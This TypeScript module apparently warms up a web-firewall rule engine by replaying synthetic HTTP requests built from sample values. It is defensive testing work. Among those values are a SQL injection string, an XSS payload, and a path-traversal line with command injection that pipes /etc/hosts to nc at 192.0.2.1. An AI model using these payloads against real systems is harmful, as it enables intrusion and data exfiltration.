/** Messages of all kinds that rules are run on before real ones come. */
import type { Sliced } from "../slices.js";
import type { Program } from "../transaction/state.js";
import { Machine, Transaction } from "../transaction/transaction.js";

/** What people and programs send, and some of what should not come. */
const VALUES = [
  "walking boots, dark green",
  "2026-11-22T08:15:00+01:00",
  "O'Neill & Söhne <sales@example.org>",
  "Please call back: 0044 (20) 7946-0958; thanks!",
  "https://www.example.org/a/b.html?x=1&y=%C3%A9#top",
  "SELECT the colour you like from our list, or order by phone -- 1 = yes",
  "if (a < b && c[0] === 'd') { return `e` + f(\"g\"); } // done",
  "1' or '1'='1' union select null, version() -- ",
  "<a href='javascript:x()' onmouseover=x>y</a><script>z</script>",
  "../../../etc/passwd; cat /etc/hosts | nc 192.0.2.1 80 $(id) `id`",
  'eyJhIjoiYiIsImMiOlsxLDIsM119.e30=, {"a": [1, 2, {"b": null}]}',
  "0123456789abcdef".repeat(64),
  "word and another, ".repeat(40),
];

interface Message {
  readonly method: string;
  readonly target: string;
  readonly headers: readonly (readonly [name: string, value: string])[];
  readonly body: string;
}

const BROWSER: Message["headers"] = [
  ["Host", "www.example.org"],
  ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"],
  ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
  ["Cookie", "session=5f0c9b1e7a2d4863; theme=light"],
];

const FORM = VALUES.map((value, at) => `field${at}=${encodeURIComponent(value)}`).join("&");
const BOUNDARY = "boundary-of-parts";
const PART = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n`;

/** The first ones are short: what patterns find out at their first use is spread over them. */
const MESSAGES: readonly Message[] = [
  ...["/", "/a.html", "/?a=b", "/a/b?c=d%20e&f=1"].map((target) => get(target, BROWSER.slice(0, 1))),
  ...VALUES.map((value, at) =>
    get(`/catalogue/${at}/item.html?name=${encodeURIComponent(value)}&size=43`, BROWSER),
  ),
  withBody("POST", "/form", "application/x-www-form-urlencoded", FORM),
  withBody("POST", "/api/v1/orders", "application/json", JSON.stringify({ all: VALUES })),
  withBody("PUT", "/feed.xml", "text/xml", `<a b="c">${encodeURIComponent(FORM)}</a>`),
  withBody(
    "POST",
    "/upload",
    `multipart/form-data; boundary=${BOUNDARY}`,
    `${PART}${VALUES.join("\r\n")}\r\n--${BOUNDARY}--\r\n`,
  ),
];

function get(target: string, headers: Message["headers"]): Message {
  return { method: "GET", target, headers, body: "" };
}

function withBody(method: string, target: string, type: string, body: string): Message {
  const about = [["Content-Type", type] as const, ["Content-Length", `${octets(body).length}`] as const];
  return { method, target, headers: [...BROWSER, ...about], body };
}

const PAGE = `<!DOCTYPE html><html><head><title>Catalogue</title></head><body>${"<p>Some text of a page.</p>".repeat(20)}</body></html>`;

/** May be interrupted between the phases of a transaction. */
export function* warmUp(program: Program, rounds: number): Sliced<void> {
  const machine = new Machine(program);
  for (let round = 0; round < rounds; round += 1)
    for (const message of MESSAGES) yield* bring(new Transaction(machine, "warm-up", () => {}), message);
}

function* bring(transaction: Transaction, { method, target, headers, body }: Message): Sliced<void> {
  transaction.connection({
    clientAddress: "127.0.0.1",
    clientPort: 49_152,
    serverAddress: "127.0.0.1",
    serverPort: 80,
  });
  transaction.requestLine(octets(method), octets(target), octets("HTTP/1.1"));
  for (const [name, value] of headers) transaction.requestHeader(octets(name), octets(value));
  // All phases run, whatever is decided: those after a decision are over at once.
  transaction.endRequestHeaders();
  yield;
  if (transaction.readsRequestBody) transaction.requestBody(octets(body));
  transaction.endRequestBody();
  yield;
  transaction.responseLine(octets("HTTP/1.1"), 200);
  transaction.responseHeader(octets("Content-Type"), octets("text/html; charset=utf-8"));
  transaction.endResponseHeaders();
  if (transaction.readsResponseBody) transaction.responseBody(octets(PAGE));
  transaction.endResponseBody();
  transaction.finish();
  yield;
}

function octets(text: string): Uint8Array {
  return Buffer.from(text, "utf8");
}
